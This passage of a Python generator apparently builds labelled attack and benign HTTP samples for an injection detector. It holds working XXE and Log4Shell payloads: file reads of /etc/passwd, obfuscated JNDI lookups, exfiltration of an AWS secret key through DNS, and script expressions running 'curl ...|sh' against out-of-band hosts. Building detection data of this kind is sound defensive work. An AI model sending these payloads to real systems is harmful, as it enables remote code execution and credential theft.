            '<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY %% file SYSTEM "file:///etc/passwd">\n  <!ENTITY %% dtd SYSTEM "http://%s/ftp.dtd">\n  %%dtd;\n]>\n<data>&send;</data>\n'
            % h(),
            xml="doc",
            path="/api/v1/feed",
        )
    )
    L.append(
        Hd(
            "multipart",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE workbook [<!ENTITY %% p SYSTEM "http://%s/x.dtd"> %%p;]>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&exf;" sheetId="1"/></sheets></workbook>\n'
            % h(),
            mp="file",
            filename="xl/workbook.xml",
            fct="application/xml",
            fieldname="part",
            path="/api/spreadsheets/import-part",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE r [<!ENTITY unc SYSTEM "file:////%s/share/x.txt">]>\n<r>&unc;</r>\n'
            % aip(),
            xml="doc",
            path="/api/import",
        )
    )
    L.append(
        Hd(
            "multipart",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:xi="http://www.w3.org/2001/XInclude">\n  <w:body><w:p><w:r><w:t><xi:include parse="text" href="file:///etc/passwd"/></w:t></w:r></w:p></w:body>\n</w:document>\n',
            mp="file",
            filename="word/document.xml",
            fct="application/xml",
            fieldname="part",
            path="/api/docs/import-part",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:include href="http://%s/x.xsl"/>\n  <xsl:template match="/"><xsl:value-of select="unparsed-text(\'/etc/passwd\')"/></xsl:template>\n</xsl:stylesheet>\n'
            % h(),
            xml="doc",
            ct="application/xslt+xml",
            path="/api/transform/stylesheet",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE r [\n  <!ELEMENT r ANY>\n  <!ENTITY %% remote SYSTEM "ftp://%s:2121/d.dtd">\n  %%remote;\n]>\n<r>&leak;</r>\n'
            % aip(),
            xml="doc",
            path="/api/import",
        )
    )
    return L


def cat_log4shell():
    h = oob
    L = []
    L.append(A("header", "${jndi:ldap://%s/a}" % h(), hname="User-Agent", path="/"))
    L.append(
        A(
            "header",
            "${jndi:ldap://%s:1389/Basic/Command/Base64/%s}" % (aip(), b64("curl http://%s/x|sh" % h())),
            hname="X-Api-Version",
            path="/api/status",
        )
    )
    L.append(A("header", "${jndi:rmi://%s:1099/x}" % aip(), hname="Referer", path="/login"))
    L.append(A("header", "${jndi:dns://%s}" % h(), hname="X-Forwarded-For", path="/"))
    L.append(A("query", "${jndi:ldap://%s/q}" % h(), param="q", path="/search"))
    L.append(A("query_key", "${jndi:ldap://%s/k}" % h(), kval="1", path="/api/items"))
    L.append(A("path", "${jndi:ldap://%s/p}" % h(), path="/{P}"))
    L.append(
        A(
            "json",
            "${jndi:ldap://%s/u}" % h(),
            param="username",
            extra={"password": "Winter2026!"},
            path="/api/auth/login",
        )
    )
    L.append(A("json", "${jndi:ldaps://%s/m}" % h(), param="message", prefix=True, path="/api/support/chat"))
    L.append(A("json_key", "${jndi:ldap://%s/jk}" % h(), kval="x", path="/api/preferences"))
    L.append(A("form", "${jndi:iiop://%s:1050/x}" % aip(), param="search", path="/catalog"))
    L.append(A("cookie", "${jndi:ldap://%s/c}" % h(), cname="JSESSIONID", path="/portal/"))
    L.append(
        A(
            "multipart",
            "${jndi:ldap://%s/f}.pdf" % h(),
            mp="filename",
            fct="application/pdf",
            fcontent="%PDF-1.7\n",
            fieldname="document",
            path="/api/documents",
        )
    )
    L.append(
        A(
            "multipart",
            "${jndi:ldap://%s/mp}" % h(),
            param="comment",
            extra_parts=[("rating", "4")],
            path="/api/feedback",
        )
    )
    L.append(A("xml", "${jndi:ldap://%s/x}" % h(), param="name"))
    L.append(A("header", "Bearer ${jndi:ldap://%s/auth}" % h(), hname="Authorization", path="/api/me"))
    L.append(
        A(
            "header",
            "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.%s/a}" % h(),
            hname="X-Client-Id",
            path="/api/v1/events",
        )
    )
    L.append(A("query", "${jndi:dns://${sys:java.version}.%s}" % h(), param="lang", path="/app"))
    L.append(
        A(
            "json",
            "${script:javascript:java.lang.Runtime.getRuntime().exec('curl http://%s/t4s')}" % h(),
            param="template",
            path="/api/messages/format",
        )
    )
    L.append(A("query", "${url:UTF-8:http://%s/t4s}" % h(), param="text", path="/api/interpolate"))
    L.append(A("form", "${dns:address|%s}" % h(), param="note", path="/tickets/new"))
    L.append(
        A(
            "json",
            '${script:js:java.lang.Runtime.getRuntime().exec("id")}',
            param="value",
            extra={"key": "app.banner"},
            path="/api/config/properties",
        )
    )
    L.append(
        A(
            "header",
            "#{T(java.lang.Runtime).getRuntime().exec('curl http://%s/sp')}" % h(),
            hname="X-Tenant-Expression",
            path="/api/tenants/current",
        )
    )
    L.append(A("header", "${jndi:ldap://%s/xfh}" % h(), hname="X-Forwarded-Host", path="/"))
    L.append(A("header", "${jndi:ldap://%s/acc}" % h(), hname="Accept", path="/api/products"))
    L.append(A("cookie", "${jndi:rmi://%s/session}" % h(), cname="remember_me", path="/"))
    L.append(A("json", "${jndi:ldap://%s/deep}" % h(), param="label", deep=True, path="/api/v2/telemetry"))
    L.append(A("query", "${jndi:ldap://127.0.0.1#%s:1389/a}" % h(), param="q", path="/search"))
    L.append(A("header", "${jndi:ldap://%s/ims}" % h(), hname="If-Modified-Since", path="/static/app.js"))
    L.append(A("form", "${jndi:ldap://%s/e}" % h(), param="email", extra_form=[("password", "x")], path="/register"))
    # ---- hard (20)
    L.append(
        Hd("header", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/a}" % h(), hname="User-Agent", path="/")
    )
    L.append(
        Hd(
            "header",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/a}" % h(),
            hname="X-Api-Version",
            path="/api/status",
        )
    )
    L.append(
        Hd(
            "query",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/a}" % h(),
            param="q",
            path="/search",
        )
    )
    L.append(Hd("json", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/a}" % h(), param="username", path="/api/auth/login"))
    L.append(
        Hd(
            "header",
            "${${upper:j}ndi:${upper:l}${upper:d}${upper:a}${upper:p}://%s/a}" % h(),
            hname="Referer",
            path="/login",
        )
    )
    L.append(Hd("form", "${jnd${upper:\u0131}:ldap://%s/a}" % h(), param="search", path="/catalog"))
    L.append(
        Hd(
            "header",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/a}" % h(),
            hname="X-Forwarded-For",
            path="/",
        )
    )
    L.append(
        Hd(
            "json",
            "${${sys:xyz:-j}${sys:xyz:-n}di:ldap://%s/a}" % h(),
            param="message",
            prefix=True,
            path="/api/support/chat",
        )
    )
    L.append(Hd("header", "${${::-${::-$${::-j}}}}", hname="X-Correlation-Id", path="/api/orders"))
    L.append(Hd("json", "${jndi:ldap://%s/a}" % h(), param="device_name", jesc="punct", path="/api/devices/register"))
    L.append(Hd("query", "${jndi:ldap://%s/a}" % h(), param="id", enc="full", path="/api/items"))
    L.append(Hd("cookie", "${jndi:ldap://%s/a}" % h(), cname="lang", enc="mixed", path="/portal/"))
    L.append(Hd("header", "${j${::-n}d${::-i}:l${::-d}ap://%s/a}" % h(), hname="X-Requested-With", path="/api/cart"))
    L.append(Hd("form", "${jndi:${lower:rmi}://%s/a}" % h(), param="username", path="/login"))
    L.append(Hd("path", "${${lower:jndi}:${lower:ldap}://%s/p}" % h(), path="/{P}", pstyle="full"))
    L.append(Hd("xml", "${jndi:ldap://%s/x}" % h(), param="name", xesc="charref"))
    L.append(
        Hd(
            "json",
            "${base64Decoder:%s}" % b64("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
            param="template",
            path="/api/messages/format",
        )
    )
    L.append(
        Hd(
            "query",
            "${script:js:new java.lang.ProcessBuilder('sh','-c','curl http://%s/b').start()}" % h(),
            param="text",
            path="/api/interpolate",
        )
    )
    L.append(
        Hd(
            "multipart",
            "${${lower:j}ndi:ldap://%s/f}.jpg" % h(),
            mp="filename",
            fct="image/jpeg",
            fcontent="\xff\xd8\xff\xe0",
            fieldname="photo",
            path="/api/photos",
        )
    )
    L.append(Hd("json_key", "${${::-j}ndi:ldap://%s/k}" % h(), kval="on", path="/api/preferences"))
    return L


ATTACK_CATS = [
    ("java_injection", cat_java_injection),
    ("php_injection", cat_php_injection),
    ("code_injection", cat_code_injection),
    ("rfi", cat_rfi),
    ("ssrf", cat_ssrf),
    ("rce", cat_rce),
    ("sqli", cat_sqli),
    ("nosqli", cat_nosqli),
    ("ldapi", cat_ldapi),
    ("ssti", cat_ssti),
    ("crlf", cat_crlf),
    ("mail_injection", cat_mail_injection),
    ("xss", cat_xss),
    ("path_traversal", cat_path_traversal),
    ("xxe", cat_xxe),
    ("log4shell", cat_log4shell),
]

ATTACK_CTX = {
    "paths": ["/api/v1/items", "/api/search", "/index.php", "/app/submit", "/api/v2/records"],
    "params": ["q", "input", "value", "data", "name", "text"],
    "headers": ["User-Agent", "X-Forwarded-For", "Referer"],
}

# ================================================================ benign part A
FIRST = [
    "Olivia",
    "Liam",
    "Sofia",
    "Mateo",
    "Aisha",
    "Noah",
    "Chen",
    "Priya",
    "Lukas",
    "Emma",
    "Kenji",
    "Fatima",
    "Jonas",
    "Isabela",
    "Tomasz",
    "Zanele",
    "Siobhan",
    "Rafael",
    "Mei",
    "Arjun",
    "Hana",
    "Omar",
    "Chloe",
    "Diego",
]
LAST = [
    "Smith",
    "O'Connor",
    "Nguyen",
    "Müller",
    "García",
    "Kowalski",
    "Okafor",
    "Tanaka",
    "D'Angelo",
    "Fernández",
    "Johansson",
    "Patel",
    "MacDonald",
    "Rossi",
    "Dubois",
    "Haddad",
    "Kim",
    "van der Berg",
    "Silva",
    "Novak",
]
CITIES = [
    ("Portland", "OR", "97205", "US"),
    ("Leeds", "", "LS1 4AP", "GB"),
    ("München", "", "80331", "DE"),
    ("Lyon", "", "69002", "FR"),
    ("Toronto", "ON", "M5V 2T6", "CA"),
    ("Austin", "TX", "78701", "US"),
    ("Kraków", "", "31-042", "PL"),
    ("Osaka", "", "530-0001", "JP"),
    ("São Paulo", "SP", "01310-100", "BR"),
]
STREETS = ["Maple Ave", "High Street", "Rue de la République", "Hauptstraße", "King St W", "Congress Ave", "Elm Court"]
PRODUCTS = [
    ("Trail Runner 4 GTX", "SKU-TR4-GTX"),
    ("Merino Crew Sweater", "SKU-MCS-022"),
    ("Cast Iron Skillet 26cm", "SKU-CIS-26"),
    ("Noise-Cancelling Headphones", "SKU-NCH-700"),
    ("Bamboo Cutting Board", "SKU-BCB-3"),
    ("USB-C Hub 7-in-1", "SKU-UCH-7"),
    ("Linen Duvet Cover (King)", "SKU-LDC-K"),
    ("Espresso Tamper 58mm", "SKU-EST-58"),
    ("Kids' Rain Boots", "SKU-KRB-11"),
]


def person():
    return rng.choice(FIRST), rng.choice(LAST)


def email_for(f, l):
    l2 = l.lower().replace("'", "").replace(" ", "").replace("ü", "u").replace("í", "i").replace("á", "a")
    dom = rng.choice(["gmail.com", "outlook.com", "proton.me", "yahoo.co.uk", "web.de", "icloud.com", "fastmail.com"])
    sep = rng.choice([".", "_", ""])
    tag = rng.choice(["", "", "", "+shop", "+news"])
    return "%s%s%s%s@%s" % (f.lower(), sep, l2, tag, dom)


def B(pl, payload, **kw):
    d = {"pl": pl, "payload": payload}
    if pl == "header" and "method" not in kw:
        d["method"] = "GET"
    d.update(kw)
    return d


BENIGN_CTX = {"paths": ["/api/v1/items"], "params": ["q"], "headers": ["X-Client-Info"]}


# ---------------------------------------------------------------- ecommerce
def k_ecommerce():
    def cart():
        n, sku = rng.choice(PRODUCTS)
        opt = {
            "size": rng.choice(["S", "M", "L", "XL", "42", "9.5"]),
            "color": rng.choice(["navy", "forest green", "charcoal", "sand"]),
        }
        return B(
            "json",
            opt,
            param="options",
            extra={"sku": sku, "quantity": rng.randint(1, 4)},
            path="/api/cart/items",
            method="POST",
        )

    def order_note():
        notes = [
            "Leave at the back door, please, the front bell doesn't work.",
            "Please deliver after 5pm, nobody's home before then.",
            "Gift wrap if possible, it's for my sister's birthday.",
            "Call 10 minutes before arrival, thanks!",
            "Building code is 4471, third floor, door on the left.",
            "If I'm out, the neighbour at no. 12 can sign for it.",
        ]
        f, l = person()
        c = rng.choice(CITIES)
        return B(
            "json",
            rng.choice(notes) + rng.choice(["", " Thank you!", " Cheers."]),
            param="delivery_note",
            extra={
                "shipping": {
                    "name": "%s %s" % (f, l),
                    "line1": "%d %s" % (rng.randint(1, 400), rng.choice(STREETS)),
                    "city": c[0],
                    "postcode": c[2],
                    "country": c[3],
                },
                "payment_method": "card",
            },
            path="/api/checkout/orders",
            method="POST",
        )

    def review():
        bodies = [
            'Great fit! I\'m 5\'10" and the "M" was perfect. Runs a little long in the sleeves.',
            "Arrived a day early. The handle gets hot, so use a mitt, but it's the best pan I've owned.",
            'Sound is excellent; the app is "meh" though. Battery easily lasts a week of commuting.',
            "Bought this for my son's school trip. It's sturdy and the zip hasn't broken yet.",
            'Colour is more grey than "sand" in person, still happy with it.',
            "Honestly better than the one I had from a bigger brand. Would buy again.",
        ]
        n, sku = rng.choice(PRODUCTS)
        return rng.choice(
            [
                B(
                    "json",
                    rng.choice(bodies),
                    param="body",
                    extra={
                        "rating": rng.randint(3, 5),
                        "title": rng.choice(["Love it", "Solid buy", "Good value", "Does the job"]),
                    },
                    path="/api/products/%s/reviews" % sku,
                    method="POST",
                ),
                B(
                    "form",
                    rng.choice(bodies),
                    param="review[body]",
                    extra_form=[("review[rating]", str(rng.randint(3, 5))), ("review[name]", rng.choice(FIRST))],
                    path="/products/%s/reviews" % sku.lower(),
                ),
            ]
        )

    def search():
        qs = [
            "men's waterproof jacket",
            "kids rain boots size 11",
            "cast iron skillet",
            "linen duvet king",
            "usb c hub",
            "gift ideas under 50",
            "espresso tamper 58mm",
        ]
        return B(
            "query",
            rng.choice(qs),
            param="q",
            q=[("sort", rng.choice(["relevance", "price_asc", "newest"]))],
            path="/api/catalog/search",
        )

    def coupon():
        code = (
            rng.choice(["SUMMER", "WELCOME", "FREESHIP", "BF", "VIP", "SPRING"])
            + rng.choice(["-", ""])
            + str(rng.randint(10, 30))
        )
        return rng.choice(
            [
                B("form", code, param="coupon_code", path="/cart/apply-coupon"),
                B("query", code, param="promo", path="/api/cart/validate"),
            ]
        )

    def wish_path():
        n, sku = rng.choice(PRODUCTS)
        return B(
            "path",
            "%s-%s" % (sku, rng.choice(["BLU", "RED", "BLK", "GRN"])),
            path="/api/wishlist/items/{P}",
            method=rng.choice(["PUT", "DELETE"]),
        )

    def cookie_recent():
        skus = [p[1] for p in rng.sample(PRODUCTS, 3)]
        return B("cookie", "|".join(skus), cname="recently_viewed", path="/")

    def header_cur():
        return B(
            "header", rng.choice(["EUR", "GBP", "USD", "JPY", "CAD"]), hname="X-Currency", path="/api/catalog/products"
        )

    def photo():
        return B(
            "multipart",
            rng.choice(["IMG_%04d.HEIC", "PXL_20261130_%04d.jpg", "DSC0%04d.JPG"]) % rng.randint(1000, 9999),
            mp="filename",
            fct=rng.choice(["image/heic", "image/jpeg"]),
            fcontent="\xff\xd8\xff\xe1 Exif",
            fieldname="photos[]",
            extra_parts=[("review_id", str(rng.randint(10000, 99999)))],
            path="/api/reviews/photos",
        )

    def xml_po():
        names = [
            "Bed sheet set, 100% cotton (king)",
            "Stainless steel water bottle 750 ml",
            "Ceramic mug set of 4",
            "Yoga mat 6 mm, non-slip",
        ]
        return B("xml", rng.choice(names), param="description", path="/supplier/po", ct="application/xml")

    def qty_key():
        n, sku = rng.choice(PRODUCTS)
        return B("json_key", sku, kval=rng.randint(1, 3), path="/api/cart/bulk-update", method="PATCH")

    def hard_review():
        t = [
            "Best purchase ever <3 -- would buy again!!!",
            "Don't drop it on tile; the case cracked. Select the 'Rugged' cover instead.",
            "5/5 -- it's the \"Pro\" model, not the 'Lite' one (the listing title is confusing).",
            '"AMAZING" -- I\'d give 6 stars if I could :) Sizes run 1/2 size small.',
            "Works with my 2019 MacBook & iPad; select 'USB-C' in the dropdown, not 'Thunderbolt'.",
            'Ordered 2, got 1 free (buy-one-get-one). Fits 1/2" and 3/4" pipes.',
        ]
        return rng.choice(
            [
                B(
                    "json",
                    rng.choice(t),
                    param="body",
                    extra={"rating": 5},
                    path="/api/products/reviews",
                    method="POST",
                ),
                B("form", rng.choice(t), param="comment", path="/reviews/submit"),
                B("multipart", rng.choice(t), param="review_text", extra_parts=[("stars", "5")], path="/api/reviews"),
            ]
        )

    def hard_product():
        t = [
            'Pipe fitting 1/2" x 3/4" (NPT) -- pack of 10',
            "Cable 3ft/1m USB-A <-> USB-C",
            "Drop-leaf table, solid oak (seats 4-6)",
            "Union Jack cushion cover 45x45 cm",
            'T-shirt "Hello, World!" -- unisex, 100% cotton',
            "Select grade maple syrup, 250ml",
        ]
        return rng.choice(
            [
                B("query", rng.choice(t), param="q", path="/api/catalog/search"),
                B("xml", rng.choice(t), param="title", path="/supplier/items"),
            ]
        )

    def hard_gift():
        t = [
            "Happy b-day!! <3 <3 love, Mom & Dad",
            'To: Sam -- From: Alex :-) "Open after dinner!"',
            "Merry Xmas & a happy 2027 ;)",
            "For my #1 teacher -- thank you for everything <3",
            "Congrats on the new place!! {don't open till Sunday}",
        ]
        return B(
            "json",
            rng.choice(t),
            param="gift_message",
            deep=rng.choice([0, 0, 11]),
            path="/api/checkout/gift",
            method="POST",
        )

    def hard_filter():
        k = rng.choice(["price[gte]", "price[lte]", "rating[gte]", "attrs[size][]", "filter[brand][in]"])
        return B("query_key", k, kval=rng.choice(["10", "50", "4", "M", "acme,zephyr"]), path="/api/catalog/products")

    def hard_search():
        t = [
            '"usb-c" OR "thunderbolt" -refurbished',
            "jacket -leather +waterproof",
            "sofa 3-seater OR 3 seater",
            '"drop shadow" lamp',
            "select comfort mattress",
            "knife set (8 pc) & block",
        ]
        return B("query", rng.choice(t), param="q", path="/search")

    def hard_addr():
        t = [
            "Apt #4; Bldg C; ring twice",
            "c/o Jane Doe -- Unit 7/12",
            "12 1/2 Main St. (rear entrance)",
            "PO Box 77; attn: Receiving & Returns",
        ]
        return B("form", rng.choice(t), param="address_line2", path="/account/addresses")

    def hard_cookie():
        return B(
            "cookie",
            '{"items":%d,"currency":"%s"}' % (rng.randint(1, 9), rng.choice(["EUR", "USD"])),
            cname="cart_summary",
            path="/",
        )

    return [
        cart,
        order_note,
        review,
        search,
        coupon,
        wish_path,
        cookie_recent,
        header_cur,
        photo,
        xml_po,
        qty_key,
        review,
        order_note,
    ], [hard_review, hard_product, hard_gift, hard_filter, hard_search, hard_addr, hard_cookie]


# ---------------------------------------------------------------- health
def k_health():
    def appt():
        reasons = [
            "Follow-up for hypertension, home BP readings attached",
            "Annual physical",
            "Persistent cough for 2 weeks",
            "Medication review",
            "Knee pain after running, right side",
            "Travel vaccination consultation",
        ]
        return B(
            "json",
            rng.choice(reasons),
            param="reason",
            extra={
                "patient_id": "P-%06d" % rng.randint(1, 999999),
                "preferred_date": "2026-12-%02d" % rng.randint(8, 30),
                "slot": rng.choice(["morning", "afternoon"]),
            },
            path="/api/appointments",
            method="POST",
        )

    def symptoms():
        t = [
            "Headache for 3 days, worse in the morning; took ibuprofen 400 mg twice daily.",
            "Sore throat and mild fever (37.9 C) since Tuesday.",
            "Rash on both forearms after gardening, itchy, no blisters.",
            "Lower back pain after lifting boxes, no numbness.",
            "Trouble sleeping for about a month, waking up around 3am.",
        ]
        return rng.choice(
            [
                B(
                    "form",
                    rng.choice(t),
                    param="symptoms",
                    extra_form=[("duration_days", str(rng.randint(1, 30)))],
                    path="/intake/symptoms",
                ),
                B(
                    "multipart",
                    rng.choice(t),
                    param="description",
                    extra_parts=[("visit_type", "telehealth")],
                    path="/api/intake",
                ),
            ]
        )

    def dose():
        d = "%s mg/kg" % rng.choice(["5", "10", "15", "0.5", "2.5"])
        return B(
            "json",
            d,
            param="dose",
            extra={
                "drug": rng.choice(["amoxicillin", "paracetamol", "ibuprofen", "gentamicin"]),
                "weight_kg": rng.randint(8, 90),
            },
            path="/api/calculators/dosage",
            method="POST",
        )

    def labs():
        return B(
            "query",
            rng.choice(["HbA1c", "LDL-C", "TSH", "eGFR", "CRP", "Ferritin"]),
            param="code",
            q=[("from", "2026-01-01"), ("to", "2026-12-01")],
            path="/api/patients/me/labs",
        )

    def refill():
        return B(
            "form",
            rng.choice(
                [
                    "Lisinopril 10 mg tablets, 90-day supply",
                    "Atorvastatin 20 mg, 30 tablets",
                    "Salbutamol inhaler 100 mcg",
                ]
            ),
            param="medication",
            path="/pharmacy/refill",
        )

    def header_pid():
        return B("header", "P-%06d" % rng.randint(1, 999999), hname="X-Patient-Id", path="/api/records/summary")

    def xml_cda():
        return B(
            "xml",
            rng.choice(
                [
                    "Patient reports improved mobility; continue physio twice weekly.",
                    "No known drug allergies.",
                    "Follow-up in 6 weeks with repeat bloods.",
                ]
            ),
            param="text",
            path="/fhir/notes",
            ct="application/xml",
        )

    def upload():
        return B(
            "multipart",
            "lab_results_2026-%02d.pdf" % rng.randint(1, 11),
            mp="filename",
            fct="application/pdf",
            fcontent="%PDF-1.6\n%\xe2\xe3\xcf\xd3\n",
            fieldname="document",
            path="/api/documents",
        )

    def path_enc():
        return B("path", "ENC-%d-%04d" % (2026, rng.randint(1, 9999)), path="/api/encounters/{P}/notes")

    def cookie_clinic():
        return B(
            "cookie",
            rng.choice(["north-clinic", "riverside", "downtown-2"]),
            cname="preferred_clinic",
            path="/appointments",
        )

    def hard_note():
        t = [
            "Glucose >%d mg/dL x2 readings; HbA1c <7%% target" % rng.randint(160, 260),
            "pt c/o SOB & CP; r/o MI -- ECG ordered, trop pending",
            "Amoxicillin %d mg PO q8h x %d days; NKDA" % (rng.choice([250, 500, 875]), rng.choice([5, 7, 10])),
            "Temp %.1f C; O2 sat %d%% on RA -> %d%% on 2L NC"
            % (rng.uniform(37.8, 39.4), rng.randint(88, 93), rng.randint(94, 98)),
            "Hx: T2DM, HTN; meds: metformin %dmg BID, lisinopril %dmg QD"
            % (rng.choice([500, 850, 1000]), rng.choice([5, 10, 20])),
            "Dose = %.2f mg/kg/h (max %d mg/h) | titrate per RASS -1 to 0"
            % (rng.choice([0.05, 0.1, 0.2]), rng.choice([2, 4, 6])),
            "BP %d/%d (L arm, seated) -> recheck in 2/52" % (rng.randint(130, 165), rng.randint(82, 100)),
            "A&O x3, GCS 15/15; pupils PERRLA",
            "K+ %.1f mmol/L (<3.5) -- replace 20 mEq PO, recheck in 4h" % rng.uniform(2.9, 3.4),
            "Pain %d/10 -> %d/10 after morphine 2 mg IV" % (rng.randint(6, 9), rng.randint(2, 4)),
        ]
        return rng.choice(
            [
                B(
                    "json",
                    rng.choice(t),
                    param="note",
                    extra={"author": "dr.%s" % rng.choice(LAST).lower().replace("'", "").replace(" ", "")},
                    path="/api/charts/notes",
                    method="POST",
                ),
                B("form", rng.choice(t), param="clinical_note", path="/ehr/notes/save"),
                B("xml", rng.choice(t), param="observation", path="/fhir/observations"),
                B("multipart", rng.choice(t), param="summary", path="/api/discharge"),
            ]
        )

    def hard_codes():
        t = [
            "ICD-10: E11.9; CPT 99214",
            "ICD-10 J45.909 / Z79.51",
            "SNOMED 44054006 | LOINC 4548-4",
            "CPT 90471 + 90686 (flu, quadrivalent)",
        ]
        return B("query", rng.choice(t), param="codes", path="/api/billing/lookup")

    def hard_interp():
        return B(
            "json",
            rng.choice(
                [
                    "<<< Pt requested interpreter (%s) >>>" % rng.choice(["Spanish", "Arabic", "Polish", "Mandarin"]),
                    "** DNR/DNI on file -- see scanned form %d **" % rng.randint(1, 40),
                    "[!] %s allergy -- use alternatives"
                    % rng.choice(["Latex", "Penicillin", "Sulfa", "Iodine contrast"]),
                ]
            ),
            param="flag",
            deep=10,
            path="/api/patients/flags",
            method="PUT",
        )

    def hard_dose_key():
        return B(
            "json_key",
            rng.choice(["dose_mg/kg", "rate_mL/h", "O2_L/min", "HbA1c_%"]),
            kval=rng.choice([5, 12.5, 2, 6.8]),
            path="/api/vitals/batch",
        )

    def hard_cookie():
        return B(
            "cookie",
            "units=%s; sort=%s" % (rng.choice(["mg/dL", "mmol/L"]), rng.choice(["date desc", "test asc", "flag desc"])),
            cname="lab_prefs",
            path="/labs",
        )

    return [appt, symptoms, dose, labs, refill, header_pid, xml_cda, upload, path_enc, cookie_clinic, appt, symptoms], [
        hard_note,
        hard_codes,
        hard_interp,
        hard_dose_key,
        hard_cookie,
        hard_note,
    ]


# ---------------------------------------------------------------- legal
def k_legal():
    def clause():
        t = [
            "Section 4.2 Confidentiality. The Receiving Party shall hold the Confidential Information in strict confidence.",
            "This Agreement shall be governed by the laws of the State of New York, without regard to its conflict of laws principles.",
            "Either party may terminate this Agreement upon thirty (30) days' written notice to the other party.",
            "The Supplier warrants that the Goods will conform to the Specifications for a period of twelve (12) months.",
            "All notices shall be in writing and delivered by hand, courier or registered mail.",
        ]
        return B(
            "json",
            rng.choice(t),
            param="text",
            extra={
                "clause_id": "%d.%d" % (rng.randint(1, 20), rng.randint(1, 9)),
                "contract_id": "CN-2026-%04d" % rng.randint(1, 9999),
            },
            path="/api/contracts/clauses",
            method="PUT",
        )

    def search():
        return B(
            "query",
            rng.choice(
                [
                    "force majeure",
                    "limitation of liability",
                    "governing law Delaware",
                    "non-compete duration",
                    "assignment consent",
                ]
            ),
            param="q",
            path="/api/precedents/search",
        )

    def signer():
        f, l = person()
        return B(
            "form",
            "%s %s" % (f, l),
            param="signatory_name",
            extra_form=[("title", rng.choice(["Director", "General Counsel", "CFO"])), ("email", email_for(f, l))],
            path="/esign/signers",
        )

    def xmlv():
        return B(
            "xml",
            rng.choice(
                [
                    "Master Services Agreement",
                    "Mutual Non-Disclosure Agreement",
                    "Data Processing Addendum",
                    "Statement of Work No. 3",
                ]
            ),
            param="title",
            path="/api/dms/metadata",
        )

    def upload():
        return B(
            "multipart",
            rng.choice(
                [
                    "MSA_v3_redline.docx",
                    "NDA - Acme & Zephyr (signed).pdf",
                    "DPA_2026_final_clean.docx",
                    "SOW#3 - Phase 2.pdf",
                ]
            ),
            mp="filename",
            fct="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            fcontent="PK\x03\x04",
            fieldname="file",
            path="/api/matters/uploads",
        )

    def pathc():
        return B(
            "path",
            "%d.%d" % (rng.randint(1, 25), rng.randint(1, 9)),
            path="/api/contracts/CN-2026-%04d/clauses/{P}" % rng.randint(1, 9999),
        )

    def header_matter():
        return B(
            "header", "M-%d-%05d" % (2026, rng.randint(1, 99999)), hname="X-Matter-Id", path="/api/billing/entries"
        )

    def cookie_ws():
        return B(
            "cookie", rng.choice(["litigation", "corporate", "ip-licensing"]), cname="workspace", path="/dashboard"
        )

    def defn_key():
        return B(
            "json_key",
            rng.choice(
                [
                    "Effective Date",
                    "Confidential Information",
                    "Affiliate",
                    "Business Day",
                    "Intellectual Property Rights",
                ]
            ),
            kval=rng.choice(["has the meaning given in Clause 1.1", "see Schedule 2", "as defined in Section 3"]),
            path="/api/glossary",
            method="POST",
        )

    def hard_clause():
        a, b_, c = rng.randint(2, 18), rng.choice("abcd"), rng.choice(["i", "ii", "iii", "iv"])
        n = rng.randint(1, 24)
        t = [
            "\u00a7 %d(%s)(%s) and/or \u00a7 %d.%d; provided, however, that no such notice shall be required."
            % (a, b_, c, n, rng.randint(1, 9)),
            "'Confidential Information' means any information disclosed by a party (the \"Disclosing Party\") under Section %d."
            % a,
            "Notwithstanding Section %d -- any claim shall be brought within %s after the cause of action arises."
            % (a, rng.choice(["one (1) year", "two (2) years", "six (6) months"])),
            "The parties agree to DROP the indemnity cap OR set it at %dx the fees paid in the prior 12 months."
            % rng.randint(1, 3),
            "Licensee shall not (a) copy; (b) modify; or (c) distribute the Software *except* as provided in \u00a7%d."
            % a,
            "[Signature block: ____________________ / Date: __/__/____] (Exhibit %s)" % rng.choice("ABCDE"),
            "Fees are exclusive of VAT; late payments accrue interest at %.1f%%/month (or the max. rate permitted by law, if lower)."
            % rng.choice([1.0, 1.5, 2.0]),
            "Sections %d, %d and %d-%d shall survive termination or expiry of this Agreement." % (a, a + 2, n, n + 3),
            '"Business Day" means any day other than a Saturday, Sunday or public holiday in %s; see \u00a7%d.%d.'
            % (rng.choice(["London", "New York", "Frankfurt"]), a, n),
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="text", path="/api/contracts/clauses", method="PUT"),
                B("form", rng.choice(t), param="comment", path="/review/comments"),
                B("multipart", rng.choice(t), param="redline_note", path="/api/matters/notes"),
                B("json", rng.choice(t), param="body", prefix=True, path="/api/contracts/annotations", method="POST"),
            ]
        )

    def hard_search():
        return B(
            "query",
            rng.choice(
                [
                    '"indemnif*" AND (cap OR limit) NOT insurance',
                    '\u00a7 %d OR "section %d"' % ((x := rng.randint(100, 999)), x),
                    'exec* /s "counterparts"',
                    '"and/or" ambiguity',
                    '"best efforts" w/5 "reasonable"',
                    "warrant* NOT warrant?",
                ]
            ),
            param="q",
            path="/api/precedents/search",
        )

    def hard_xml():
        return B(
            "xml",
            rng.choice(
                [
                    "<Licensor> shall indemnify <Licensee>",
                    "Party A & Party B",
                    "Clause %d.%d -> %d.%d (renumbered)"
